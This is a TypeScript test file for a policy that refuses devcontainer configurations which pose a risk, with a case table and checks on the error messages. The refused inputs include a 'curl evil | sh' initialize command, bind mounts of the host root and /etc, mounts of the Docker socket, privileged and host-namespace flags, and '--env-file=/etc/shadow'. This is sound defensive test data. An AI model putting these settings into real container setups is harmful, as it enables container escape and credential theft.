import { describe, expect, it } from 'vitest';
import { AppError } from '@spt-flow/shared/domain/errors';
import { parseConfigDocument } from '../reading/config-document.ts';
import { readConfig, type Metadata } from '../reading/config-schema.ts';
import { judgeConfig, judgeMetadata, judgeWorkspaceMount, type Limits } from './policy.ts';
import { RefusalList } from './refusal.ts';

const FILE = '.devcontainer/devcontainer.json';
const DEVENV: Limits = { isolation: 'devenv', allowPrivileged: false };

function judge(config: object, limits: Limits = DEVENV) {
  const document = parseConfigDocument(FILE, JSON.stringify(config, null, 2));
  const refusals = new RefusalList();
  const read = readConfig(document);
  const wishes = judgeConfig(read, limits, refusals.in(document));
  judgeWorkspaceMount(read, '/workspaces/shop', refusals.in(document));
  refusals.throwIfAny();
  return wishes;
}

function refusal(work: () => unknown): AppError {
  try {
    work();
  } catch (error) {
    if (error instanceof AppError) return error;
    throw error;
  }
  throw new Error('it was permitted');
}

describe('the policy for devcontainers', () => {
  it.each<[rule: string, config: object]>([
    ['initialize-command', { initializeCommand: 'curl evil | sh' }],
    ['host-mount', { mounts: ['type=bind,source=/,target=/host'] }],
    ['host-mount', { mounts: ['source=/etc,target=/host'] }],
    ['host-mount', { mounts: [{ type: 'bind', source: '/root', target: '/host' }] }],
    ['host-mount', { mounts: ['src=../other,dst=/host'] }],
    ['host-mount', { runArgs: ['-v', '/:/host'] }],
    ['host-mount', { runArgs: ['--volume=/etc:/host:ro'] }],
    ['host-mount', { runArgs: ['--mount', 'type=bind,src=/,dst=/host'] }],
    ['docker-socket', { mounts: ['source=/var/run/docker.sock,target=/x,type=bind'] }],
    ['docker-socket', { runArgs: ['-v', '/var/run/docker.sock:/var/run/docker.sock'] }],
    [
      'docker-socket',
      { mounts: [{ source: '/run/podman/podman.sock', target: '/s', type: 'bind' }] },
    ],
    ['mount-option', { mounts: ['source=v,target=/x,volume-opt=type=none,volume-opt=device=/'] }],
    ['mount-option', { mounts: ['source=v,target=/x,volume-driver=evil'] }],
    ['mount-target', { mounts: ['source=v,target=/'] }],
    ['mount-target', { mounts: ['source=v,target=/x/../proc'] }],
    ['mount-target', { mounts: ['source=v,target=/proc/1'] }],
    ['mount-target', { mounts: ['source=v,target=relative'] }],
    ['privileged', { privileged: true }],
    ['privileged', { runArgs: ['--privileged'] }],
    ['privileged', { runArgs: ['--privileged=1'] }],
    ['host-namespace', { runArgs: ['--network=host'] }],
    ['host-namespace', { runArgs: ['--net', 'host'] }],
    ['host-namespace', { runArgs: ['--network', 'container:abc'] }],
    ['host-namespace', { runArgs: ['--pid=host'] }],
    ['host-namespace', { runArgs: ['--ipc=host'] }],
    ['host-namespace', { runArgs: ['--userns=host'] }],
    ['device', { runArgs: ['--device=/dev/kmsg'] }],
    ['device', { runArgs: ['--gpus', 'all'] }],
    ['capability', { capAdd: ['SYS_ADMIN'] }],
    ['capability', { runArgs: ['--cap-add=ALL'] }],
    ['capability', { runArgs: ['--cap-add', 'cap_net_admin'] }],
    ['security-option', { securityOpt: ['seccomp=unconfined'] }],
    ['security-option', { runArgs: ['--security-opt', 'apparmor:unconfined'] }],
    ['run-argument', { runArgs: ['--volumes-from', 'other'] }],
    ['run-argument', { runArgs: ['--cgroup-parent=/'] }],
    ['run-argument', { runArgs: ['--env-file=/etc/shadow'] }],
    ['run-argument', { runArgs: ['-it'] }],
    ['run-argument', { runArgs: ['image'] }],
    ['run-argument', { runArgs: ['-e', 'AWS_SECRET_ACCESS_KEY'] }],
    ['build-option', { build: { dockerfile: 'Dockerfile', options: ['--network=host'] } }],
    ['published-port', { appPort: 3000 }],
    ['published-port', { runArgs: ['-p', '0.0.0.0:80:80'] }],
    ['workspace-mount', { workspaceMount: 'source=/,target=/w,type=bind', workspaceFolder: '/w' }],
    [
      'workspace-mount',
      { workspaceMount: 'source=v,target=/a,type=volume', workspaceFolder: '/b' },
    ],
  ])('refuses %s: %j', (rule, config) => {
    const error = refusal(() => judge(config));

    expect(error.code).toBe('devcontainer_refused');
    expect(error.message).toContain(`by the rule "${rule}"`);
    expect(error.details).toMatchObject({
      refusals: [
        { rule, place: { file: FILE, line: expect.any(Number) }, remedy: expect.any(String) },
      ],
    });
  });

  it('names the line, and everything that is not permitted at once', () => {
    const error = refusal(() =>
      judge({ image: 'a', privileged: true, mounts: ['source=/,target=/h'] }),
    );

    expect(error.message).toBe(
      '.devcontainer/devcontainer.json:3:3: "privileged" is not permitted by the rule "privileged": ' +
        'leave it out, or ask an admin to permit it in workspaces with the isolation "relaxed" (and 1 more)\n' +
        '.devcontainer/devcontainer.json:5:5: The mount of "/" (type "volume") is not permitted by the rule "host-mount": ' +
        'mount a volume (type=volume) or a tmpfs instead of a path of the host',
    );
    expect(error.details).toMatchObject({
      refusals: [{ place: { line: 3 } }, { place: { line: 5 } }],
    });
  });

  it('names the image or feature that asked', () => {
    const refusals = new RefusalList();
    const metadata: Metadata = { mounts: ['source=/var/run/docker.sock,target=/s,type=bind'] };
    judgeMetadata(metadata, DEVENV, refusals.inImage('the feature "docker-outside-of-docker"'));

    const error = refusal(() => refusals.throwIfAny());

    expect(error.message).toContain('(asked for by the feature "docker-outside-of-docker")');
  });

  it('permits volumes, tmpfs, variables and what the isolation has', () => {
    const wishes = judge({
      workspaceMount: 'source=${localWorkspaceFolder},target=/w,type=bind'.replace(
        '${localWorkspaceFolder}',
        '/workspaces/shop',
      ),
      workspaceFolder: '/w',
      mounts: [
        'source=cache,target=/home/dev/.cache,type=volume,consistency=cached',
        { type: 'tmpfs', target: '/scratch' },
      ],
      capAdd: ['CAP_SYS_PTRACE'],
      runArgs: [
        '--init',
        '-e',
        'A=b=c',
        '--name',
        'shop',
        '--shm-size=1g',
        '--network=bridge',
        '--privileged=false',
        '-v',
        'data:/data',
        '--tmpfs=/t:size=1m',
        '-u',
        'dev',
        '--security-opt=no-new-privileges:true',
      ],
    });

    expect(wishes).toEqual({
      mounts: [
        { kind: 'volume', name: 'cache', target: '/home/dev/.cache' },
        { kind: 'tmpfs', name: '', target: '/scratch' },
        { kind: 'volume', name: 'data', target: '/data' },
        { kind: 'tmpfs', name: '', target: '/t' },
      ],
      capabilities: ['SYS_PTRACE'],
      securityOptions: ['no-new-privileges'],
      environment: { A: 'b=c' },
      privileged: false,
      init: true,
      user: 'dev',
      ignored: ['name', 'shm-size', 'network'],
    });
  });

  it('depends on the isolation and on what an admin permits', () => {
    const restricted: Limits = { isolation: 'restricted', allowPrivileged: false };
    const open: Limits = { isolation: 'relaxed', allowPrivileged: true };

    expect(() => judge({ capAdd: ['SYS_PTRACE'] }, restricted)).toThrow(
      'in the isolation "restricted"',
    );
    expect(judge({ privileged: true, securityOpt: ['seccomp=unconfined'] }, open)).toMatchObject({
      privileged: true,
      securityOptions: ['seccomp=unconfined'],
    });
  });
});
